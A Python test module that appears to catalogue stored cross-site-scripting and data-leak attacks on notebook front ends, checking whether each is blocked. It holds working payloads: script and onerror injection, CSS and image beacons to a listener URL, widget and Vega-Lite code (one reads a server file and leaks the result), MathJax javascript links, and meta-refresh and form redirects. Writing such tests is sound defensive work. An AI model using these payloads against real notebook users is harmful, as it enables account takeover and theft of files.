"""What a cell can put out to act with the login of the person who looks at it.

One row an attack: its cells' source, and the witness that it leaves when it wins: a file made
through the server, or a contact with a loopback listener. Rows that change or leave the page
stand in a notebook of their own (`alone`).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

from tests.browser.witnesses import script, terminal_script

Witness = Literal["file", "contact"]


@dataclass(frozen=True)
class Attack:
    """`source(listener_url)` is the cell, or several with `NEXT_CELL` between them.

    `click` and `hover` are selectors of what a person would click or pass over; `leaves` says that
    a won attack takes the page away; `note` why a front end stops it; `needs_rights` that the
    sandboxed kernel asks or refuses before there is any output. `file` is a file beside the
    notebook that an earlier cell had written, by name, with a script in it.
    """

    name: str
    witness: Witness
    source: Callable[[str], str]
    click: str = ""
    hover: str = ""
    file: str = ""
    alone: bool = False
    leaves: bool = False
    needs_rights: bool = False
    note: str = ""


NEXT_CELL = "\n# ---- the next cell\n"

_IMPORT = "from IPython.display import HTML, Javascript, Markdown, Math, SVG, display\n"
_IMAGE = '<img src=x onerror="{}">'


def _html(name: str, witness: Witness, html: str, **options: object) -> Attack:
    """An attack by `HTML(…)`; `{js}` and `{url}` in the text are replaced."""

    def source(listener: str) -> str:
        text = html.replace("{js}", script(name, listener)).replace("{url}", f"{listener}/{name}")
        return f"{_IMPORT}HTML({text!r})"

    return Attack(name, witness, source, **options)  # type: ignore[arg-type]


def _call(name: str, witness: Witness, code: str, **options: object) -> Attack:
    """An attack by any code; `JS` and `URL` are names in it."""

    def source(listener: str) -> str:
        js, url = script(name, listener), f"{listener}/{name}"
        return f"{_IMPORT}JS = {js!r}\nURL = {url!r}\nBAD = {_IMAGE.format(js)!r}\n{code}"

    return Attack(name, witness, source, **options)  # type: ignore[arg-type]


def _terminal(listener: str) -> str:
    js = terminal_script("PATH")
    return (
        f"{_IMPORT}import os\nPATH = os.path.join(os.getcwd(), 'w-terminal.txt')\n"
        f"HTML('<script>' + {js!r}.replace('PATH', PATH) + '</script>')"
    )


ATTACKS: tuple[Attack, ...] = (
    _html("script", "file", "<script>{js}</script>"),
    Attack("terminal", "file", _terminal, needs_rights=True),
    _html("onerror", "file", '<img src=x onerror="{js}">'),
    _call("javascript", "file", "Javascript(JS)"),
    _call("markdown-script", "file", "Markdown('*x*\\n\\n<script>' + JS + '</script>')"),
    _call("markdown-onerror", "file", "Markdown('*x*\\n\\n' + BAD)"),
    _html("srcdoc", "file", '<iframe srcdoc="<script>{js}</script>"></iframe>'),
    _html("link-stylesheet", "contact", '<link rel="stylesheet" href="{url}">'),
    _html("css-url", "contact", '<div style="background:url({url})">x</div>'),
    _html(
        "css-sheet",
        "contact",
        '<style>.leak { background-image: url({url}) }</style><p class="leak">x</p>',
    ),
    _html("css-import", "contact", "<style>@import '{url}';</style>x"),
    _html("svg-inline", "file", '<svg><image href="x" onerror="{js}" /></svg>'),
    _call(
        "svg-image-html",
        "file",
        "display({'text/html': '<svg><script>' + JS + '</script></svg>'}, raw=True)",
    ),
    _call(
        "script-file",
        "file",
        "open('evil.js', 'w').write(JS)\nHTML('<script src=\"/files/evil.js\"></script>')",
        needs_rights=True,
    ),
    _html(
        "script-file-there",
        "file",
        '<script src="/files/there.js"></script>',
        file="there.js",
    ),
    _call(
        "widget-code",
        "file",
        "import ipywidgets, traitlets\n"
        "class Evil(ipywidgets.DOMWidget):\n"
        "    _model_module = traitlets.Unicode('anywidget').tag(sync=True)\n"
        "    _model_name = traitlets.Unicode('AnyModel').tag(sync=True)\n"
        "    _model_module_version = traitlets.Unicode('*').tag(sync=True)\n"
        "    _view_module = traitlets.Unicode('anywidget').tag(sync=True)\n"
        "    _view_name = traitlets.Unicode('AnyView').tag(sync=True)\n"
        "    _view_module_version = traitlets.Unicode('*').tag(sync=True)\n"
        "    _anywidget_id = traitlets.Unicode('evil').tag(sync=True)\n"
        "    _esm = traitlets.Unicode('export default { render({ model, el }) { ' + JS + ' } }'"
        ").tag(sync=True)\n"
        "Evil()",
    ),
    _call(
        "widget-view",
        "file",
        "import ipywidgets, traitlets\n"
        "class Shown(ipywidgets.Text):\n"
        "    _view_name = traitlets.Unicode('HTMLView').tag(sync=True)\n"
        "Shown(value=BAD)",
    ),
    _call(
        "widget-view-update",
        "file",
        "import ipywidgets\nbox = ipywidgets.Text(value=BAD)\n"
        "box.set_trait('_view_name', 'HTMLView')\ndisplay(box)",
    ),
    _call(
        "anywidget",
        "file",
        "import anywidget\nclass Evil(anywidget.AnyWidget):\n"
        "    _esm = 'export default { render({ model, el }) { ' + JS + ' } }'\nEvil()",
        needs_rights=True,
    ),
    _call("html-widget", "file", "import ipywidgets\nipywidgets.HTML(BAD)"),
    _call(
        "html-widget-update",
        "file",
        "import ipywidgets\nbox = ipywidgets.HTML('ok')\ndisplay(box)\nbox.value = BAD",
    ),
    _call(
        "widget-description",
        "file",
        "import ipywidgets\nipywidgets.IntSlider(description=BAD, description_allow_html=True)",
        note="ipywidgets cleans descriptions itself",
    ),
    _call(
        "widget-link",
        "file",
        "import ipywidgets\ntext, box = ipywidgets.Text(), ipywidgets.HTML('ok')\n"
        "display(ipywidgets.VBox([text, box]))\nlink = ipywidgets.jslink((text, 'value'), "
        "(box, 'value'))\ntext.value = BAD",
    ),
    _call(
        "output-widget",
        "file",
        "import ipywidgets\nout = ipywidgets.Output()\nout.append_display_data(HTML(BAD))\nout",
    ),
    _html(
        "command-linker",
        "file",
        '<button class="clickme" data-commandlinker-command="docmanager:new-untitled" '
        'data-commandlinker-args=\'{"path": "", "type": "file", "ext": "linker"}\'>Go on</button>',
        click="button.clickme",
    ),
    _call(
        "vega-url",
        "contact",
        "display({'application/vnd.vegalite.v5+json': {'data': {'url': URL, 'format': "
        "{'type': 'json'}}, 'mark': 'point', 'encoding': {'x': {'field': 'a', 'type': "
        "'quantitative'}}}}, raw=True)",
    ),
    _call(
        "vega-api",
        "contact",
        "display({'application/vnd.vegalite.v5+json': {'data': {'url': "
        "'/api/contents/secret.txt?content=1', 'format': {'type': 'json'}}, 'transform': ["
        "{'calculate': 'datum.content == \"secret\" ? \"' + URL + '\" : \"\"', 'as': 'u'}], "
        "'mark': {'type': 'image', 'width': 9, 'height': 9}, 'encoding': "
        "{'url': {'field': 'u', 'type': 'nominal'}}}}, raw=True)",
    ),
    _call(
        "vega-control",
        "file",
        "display({'application/vnd.vegalite.v5+json': {'data': {'values': [{'a': 1}]}, 'mark': "
        "'point', 'params': [{'name': 'p', 'value': 'x', 'bind': {'input': 'text', 'name': "
        "'clickme', 'class': 'clickvega', 'onclick': JS}}]}}, raw=True)",
        click="input.clickvega",
    ),
    _call(
        "vega-cursor",
        "contact",
        "display({'application/vnd.vegalite.v5+json': {'data': {'values': [{'a': 1}]}, 'width': "
        "200, 'height': 90, 'mark': {'type': 'rect', 'cursor': 'url(' + URL + '), auto'}, "
        "'description': 'with a cursor'}}, raw=True)",
        hover="[aria-label='with a cursor'] canvas",
    ),
    _call(
        "vega-tooltip",
        "contact",
        "display({'application/vnd.vegalite.v5+json': {'data': {'values': [{'image': URL}]}, "
        "'width': 200, 'height': 90, 'mark': {'type': 'rect', 'tooltip': {'content': 'data'}}, "
        "'description': 'with a tooltip'}}, raw=True)",
        hover="[aria-label='with a tooltip'] canvas",
    ),
    _call("markdown-image", "contact", "Markdown('![x](' + URL + ')')"),
    _html("html-image", "contact", '<img src="{url}">'),
    _html("html-audio", "contact", '<audio src="{url}" autoplay preload="auto"></audio>'),
    _call(
        "mathjax-href",
        "file",
        "Math(r'\\href{javascript:' + 'void(' + JS.replace('{', '\\\\{').replace('}', '\\\\}')"
        " + ')}{x^2}')",
        click="a[href^='javascript:']",
        note="JupyterLab's MathJax runs with its own safe mode",
    ),
    _call(
        "mathjax-font", "contact", "Math(r'\\unicode[Arial; background: url(' + URL + r')]{x41}')"
    ),
    _html("mathjax-font-html", "contact", r"<p>$\unicode[Arial; background: url({url})]{x41}$</p>"),
    _call(
        "mathjax-font-label",
        "contact",
        "import ipywidgets\n"
        "ipywidgets.Label(r'$\\unicode[Arial; background: url(' + URL + r')]{x41}$')",
    ),
    _call(
        "update-display",
        "file",
        "handle = display('before', display_id=True)\nhandle.update(HTML(BAD))",
    ),
    _call(
        "update-other-display",
        "file",
        "display('before', display_id='shown-before')" + NEXT_CELL + "from IPython.display import "
        "HTML, update_display\nupdate_display(HTML(BAD), display_id='shown-before')",
    ),
    _call(
        "mathjax-link",
        "contact",
        "Math(r'\\href{' + URL + r'}{x^2}')",
        click="mjx-container a[href$='/mathjax-link']",
    ),
    _html(
        "base",
        "contact",
        '<base href="{url}/"><img src=".">',
        alone=True,
    ),
    _html(
        "meta-refresh",
        "contact",
        '<meta http-equiv="refresh" content="0;url={url}">',
        alone=True,
        leaves=True,
    ),
    _html(
        "form-post",
        "contact",
        '<form action="{url}" method="post"><button class="clickform">Go on</button></form>',
        click="button.clickform",
        alone=True,
        leaves=True,
    ),
)
